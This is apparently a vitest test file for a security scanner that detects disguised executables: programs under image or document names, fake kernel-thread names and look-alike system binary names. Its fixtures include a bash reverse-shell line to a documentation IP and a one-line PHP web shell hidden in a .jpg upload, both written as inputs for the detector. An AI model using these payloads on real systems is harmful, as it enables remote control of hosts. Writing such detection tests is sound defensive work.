import { expect, test } from 'vitest';
import { disguisedPrograms } from '../../source/checks/disguised-programs.ts';
import { imitatesKernelThread, takenFor } from '../../source/checks/imitated-names.ts';
import { memoryHost, type Machine } from '../support/memory-host.ts';
import { byPath } from '../support/by-path.ts';
import { sweep } from '../support/sweep-host.ts';

const elf = Buffer.from('\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0', 'latin1');
const program = { content: elf, mode: 0o755 };
const script = { content: '#!/bin/sh\necho\n', mode: 0o755 };
const ask = (machine: Machine) => byPath(sweep(disguisedPrograms, memoryHost({ '/var/lib/dpkg/info/a.list': '/usr/sbin/sshd\n/usr/bin/kworker-tool\n', ...machine })));

test('everyday names are nothing', () => {
	expect(
		ask({
			'/usr/sbin/sshd': program, '/usr/bin/kworker-tool': program, '/home/ann/p.png': Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), '/home/ann/notes.txt': '#!/bin/sh\n', '/home/ann/x.svg': '<svg/>', '/etc/init.d/cron': script, '/etc/pam.d/su': 'x',
			'/home/ann/venv/bin/sh': program, '/home/ann/src/crypto': program, '/usr/local/bin/ps': program, '/opt/app/bin/init': program, '/opt/lampp/nginx': program, '/etc/cron.daily/passwd': script, '/home/ann/a.jpg': 'not really a picture', '/home/ann/node_modules/x/test.txt': script,
			'/var/lib/docker/overlay2/a/diff/x/kworker': program, '/home/ann/readme.md': '#!shebang is a word\n', '/tmp/hosts': program,
		}),
	).toEqual([]);
});
test('under the names of others', () => {
	expect(
		ask({
			'/var/www/html/logo.png': program, '/home/ann/doc.pdf': script, '/tmp/a.log': script, '/usr/share/doc/readme.txt': { content: '#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4 0>&1\n', mode: 0o755 }, '/usr/share/doc/own.txt': script, '/var/www/up/x.jpg': '<?php system($_GET["c"]);', '/usr/share/pixmaps/t.gif': { content: elf }, '/home/ann/bin/[kworker]': program,
			'/usr/local/bin/kworker': program, '/tmp/sshd': program, '/var/lib/misc/crond': program, '/opt/google/chrome/crond': program, '/usr/sbin/sysIogd': program, '/usr/bin/1s': program, '/usr/sbin/sytsemd': program, '/home/ann/sshd': program, '/dev/shm/kthreadd': { content: elf, mode: 0o700 },
		}),
	).toEqual([
		'high /dev/shm/kthreadd', 'medium /home/ann/bin/[kworker]', 'high /home/ann/doc.pdf', 'low /home/ann/sshd', 'high /opt/google/chrome/crond', 'medium /tmp/a.log', 'high /tmp/sshd', 'high /usr/bin/1s', 'high /usr/local/bin/kworker', 'high /usr/sbin/sysIogd', 'high /usr/sbin/sytsemd',
		'low /usr/share/doc/own.txt', 'critical /usr/share/doc/readme.txt', 'high /usr/share/pixmaps/t.gif', 'high /var/lib/misc/crond', 'high /var/www/html/logo.png', 'high /var/www/up/x.jpg',
	]);
});
test('names of kernel threads', () => {
	expect(['[kworker/0:1]', 'kworker', 'kworker/u8:2', 'ksoftirqd-0', 'kthreadd', '[x]', 'rcu_sched'].filter(name => !imitatesKernelThread(name))).toEqual([]);
	expect(['crypto', 'migration', '[', 'kworkers', 'test', 'rcu', 'watchdog'].filter(imitatesKernelThread)).toEqual([]);
});
test('what a name is taken for', () => {
	expect(['1s', 'sysIogd', 'sshd.', 'SSHD', 'crrond', 'sytsemd', 'rsys1ogd'].map(takenFor)).toEqual(['ls', 'syslogd', 'sshd', 'sshd', 'crond', 'systemd', 'rsyslogd']);
	expect(['ls', 'lsof', 'sl', 'lsb', 'psql', 'ssh', 'crontab', 'finds', 'tops', 'nginx-debug', 'apache2ctl', 'sh-5', 'dd', 'Ps'].map(takenFor).filter(name => name !== undefined)).toEqual(['ps']);
});

test('a copy of a shell under a dull name', () => {
	const bash = { mode: 0o755, content: `\x7fELF\x02\x01\x01${'b'.repeat(20_000)}` };
	const other = { mode: 0o755, content: `\x7fELF\x02\x01\x01${'x'.repeat(20_000)}` };
	expect(
		byPath(sweep(disguisedPrograms, memoryHost({ '/bin': { link: 'usr/bin' }, '/usr/bin/bash': bash, '/usr/bin/python3.11': { ...bash, content: `${bash.content}p` }, '/var/lib/dpkg/info/b.list': '/bin/bash\n/usr/bin/rbash2\n', '/usr/bin/rbash2': bash, '/opt/m/sampler': bash, '/opt/m/agent': other, '/srv/chroot/bin/bash': bash, '/home/ann/v/bin/python3': { ...bash, content: `${bash.content}p` } }))),
	).toEqual(['medium /opt/m/sampler']);
});
